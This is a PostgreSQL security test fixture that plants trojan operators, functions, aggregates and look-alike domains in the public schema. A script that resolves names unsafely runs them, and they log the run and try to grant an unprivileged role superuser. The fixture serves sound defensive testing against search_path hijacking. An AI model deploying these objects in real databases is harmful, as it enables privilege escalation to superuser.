-- Trojan objects planted in public by sec_trojan, an unprivileged role with
-- CREATE on public (test/security/run.sh). Every trojan calls
-- public.trojan_fire(), which records who ran it (trojan_log), raises a
-- WARNING "TROJAN RAN", and tries to make sec_trojan a superuser: if a
-- superuser ever runs one, the escalation succeeds and the tests see it.
-- Operators and functions return what pg_catalog's would, so a trojan that
-- ran changes nothing else and is found only by its traces.
SET ROLE sec_trojan;
CREATE TABLE public.trojan_log (what text, run_as name, session_as name,
                                at timestamptz DEFAULT pg_catalog.clock_timestamp());
GRANT INSERT, SELECT ON public.trojan_log TO PUBLIC;

CREATE FUNCTION public.trojan_fire(what text) RETURNS bool
    LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO public.trojan_log (what, run_as, session_as)
        VALUES (what, CURRENT_USER, SESSION_USER);
    IF CURRENT_USER OPERATOR(pg_catalog.<>) 'sec_trojan' THEN
        RAISE WARNING 'TROJAN RAN: % as %', what, CURRENT_USER;
        BEGIN
            EXECUTE 'ALTER ROLE sec_trojan SUPERUSER';
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END IF;
    RETURN true;
END $$;
GRANT EXECUTE ON FUNCTION public.trojan_fire(text) TO PUBLIC;

-- Operators for the types the scripts compare, concatenate and add, each
-- more specific than (or equal to) pg_catalog's.
DO $plant$
DECLARE
    o record;
    i int := 0;
BEGIN
    FOR o IN SELECT * FROM (VALUES
        ('=', 'text', 'text', 'bool'), ('=', 'name', 'name', 'bool'),
        ('=', 'name', 'text', 'bool'), ('=', 'text', 'name', 'bool'),
        ('=', 'oid', 'oid', 'bool'), ('=', 'regclass', 'regclass', 'bool'),
        ('=', 'regclass', 'oid', 'bool'), ('=', 'oid', 'regclass', 'bool'),
        ('=', 'regrole', 'regrole', 'bool'), ('=', 'regtype', 'regtype', 'bool'),
        ('=', 'oid', 'regtype', 'bool'), ('=', 'int2', 'int2', 'bool'),
        ('=', 'int8', 'int8', 'bool'), ('=', 'int4', 'int4', 'bool'),
        ('=', 'int8', 'int4', 'bool'), ('=', 'bool', 'bool', 'bool'),
        ('=', '"char"', '"char"', 'bool'), ('=', 'int8[]', 'int8', 'bool'),
        ('<>', 'text', 'text', 'bool'), ('<>', '"char"', '"char"', 'bool'),
        ('<>', 'oid', 'oid', 'bool'), ('<>', 'regclass', 'regclass', 'bool'),
        ('>', 'int8', 'int8', 'bool'), ('>', 'int8', 'int4', 'bool'),
        ('>', 'timestamptz', 'timestamptz', 'bool'), ('<', 'int8', 'int8', 'bool'),
        ('>=', 'int8', 'int8', 'bool'), ('<=', 'int8', 'int8', 'bool'),
        ('||', 'int8[]', 'int8', 'int8[]'), ('||', 'int8[]', 'int4', 'int8[]'),
        ('||', 'text', 'text', 'text'), ('||', 'text[]', 'text', 'text[]'),
        ('+', 'timestamptz', 'interval', 'timestamptz'),
        ('~', 'text', 'text', 'bool'), ('~~', 'text', 'text', 'bool')
    ) v(op, l, r, ret)
    LOOP
        i := i + 1;
        EXECUTE pg_catalog.format(
            'CREATE FUNCTION public.trojan_op_%s(a %s, b %s) RETURNS %s LANGUAGE plpgsql AS '
            '$f$ BEGIN PERFORM public.trojan_fire(%L); RETURN a OPERATOR(pg_catalog.%s) b; END $f$',
            i, o.l, o.r, o.ret, 'operator ' || o.op || ' (' || o.l || ', ' || o.r || ')', o.op);
        EXECUTE pg_catalog.format(
            'CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.trojan_op_%s)',
            o.op, o.l, o.r, i);
    END LOOP;
END
$plant$;

-- Functions the scripts call (always pg_catalog-qualified), with the same or
-- a more specific signature.
CREATE FUNCTION public.now() RETURNS timestamptz LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.trojan_fire('now()'); RETURN pg_catalog.now(); END $$;
CREATE FUNCTION public.clock_timestamp() RETURNS timestamptz LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.trojan_fire('clock_timestamp()'); RETURN pg_catalog.clock_timestamp(); END $$;
CREATE FUNCTION public.has_table_privilege(a regclass, b text) RETURNS bool LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.trojan_fire('has_table_privilege(regclass, text)');
       RETURN pg_catalog.has_table_privilege(a, b); END $$;
CREATE FUNCTION public.pg_has_role(a oid, b text) RETURNS bool LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.trojan_fire('pg_has_role(oid, text)'); RETURN pg_catalog.pg_has_role(a, b); END $$;
CREATE FUNCTION public.pg_has_role(a regrole, b text) RETURNS bool LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.trojan_fire('pg_has_role(regrole, text)'); RETURN pg_catalog.pg_has_role(a, b); END $$;
CREATE FUNCTION public.quote_ident(a name) RETURNS text LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.trojan_fire('quote_ident(name)'); RETURN pg_catalog.quote_ident(a); END $$;
CREATE FUNCTION public.to_regrole(a text) RETURNS regrole LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.trojan_fire('to_regrole(text)'); RETURN pg_catalog.to_regrole(a); END $$;
CREATE FUNCTION public.regexp_replace(a text, b text, c text) RETURNS text LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.trojan_fire('regexp_replace'); RETURN pg_catalog.regexp_replace(a, b, c); END $$;
CREATE FUNCTION public.cardinality(a int8[]) RETURNS int LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.trojan_fire('cardinality(int8[])'); RETURN pg_catalog.cardinality(a); END $$;
CREATE FUNCTION public.unnest(a int2[]) RETURNS SETOF int2 LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.trojan_fire('unnest(int2[])'); RETURN QUERY SELECT pg_catalog.unnest(a); END $$;
CREATE FUNCTION public.unnest(a text[]) RETURNS SETOF text LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.trojan_fire('unnest(text[])'); RETURN QUERY SELECT pg_catalog.unnest(a); END $$;
CREATE FUNCTION public.set_config(a text, b text, c bool) RETURNS text LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.trojan_fire('set_config'); RETURN pg_catalog.set_config(a, b, c); END $$;
CREATE FUNCTION public.current_setting(a text) RETURNS text LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.trojan_fire('current_setting'); RETURN pg_catalog.current_setting(a); END $$;
CREATE FUNCTION public.pg_extension_config_dump(a regclass, b text) RETURNS void LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.trojan_fire('pg_extension_config_dump'); END $$;
CREATE FUNCTION public.hashtext(a text) RETURNS int LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.trojan_fire('hashtext'); RETURN pg_catalog.hashtext(a); END $$;
CREATE FUNCTION public.int8(a int4) RETURNS int8 LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.trojan_fire('int8(int4)'); RETURN a::pg_catalog.int8; END $$;
CREATE FUNCTION public.text(a name) RETURNS text LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.trojan_fire('text(name)'); RETURN a::pg_catalog.text; END $$;
CREATE FUNCTION public.trojan_max(a int8, b int8) RETURNS int8 LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.trojan_fire('max(int8)'); RETURN pg_catalog.int8larger(a, b); END $$;
CREATE AGGREGATE public.max(int8) (SFUNC = public.trojan_max, STYPE = int8);
CREATE AGGREGATE public.count(int8) (SFUNC = public.trojan_max, STYPE = int8);

-- Types: domains named like the types the scripts use, whose CHECK fires the
-- trojan on any cast to them.
DO $plant$
DECLARE
    t text;
BEGIN
    FOREACH t IN ARRAY ARRAY['text', 'name', 'oid', 'int8', 'int4', 'int2', 'bool', 'regclass',
                             'regrole', 'regtype', 'timestamptz', 'interval', 'jsonb', 'cstring',
                             'char', 'xid8']
    LOOP
        CONTINUE WHEN t = 'cstring';  -- a pseudo-type: no domain over it
        EXECUTE pg_catalog.format(
            'CREATE DOMAIN public.%I AS pg_catalog.%I CHECK (public.trojan_fire(%L))',
            t, t, 'domain public.' || t);
    END LOOP;
END
$plant$;
RESET ROLE;
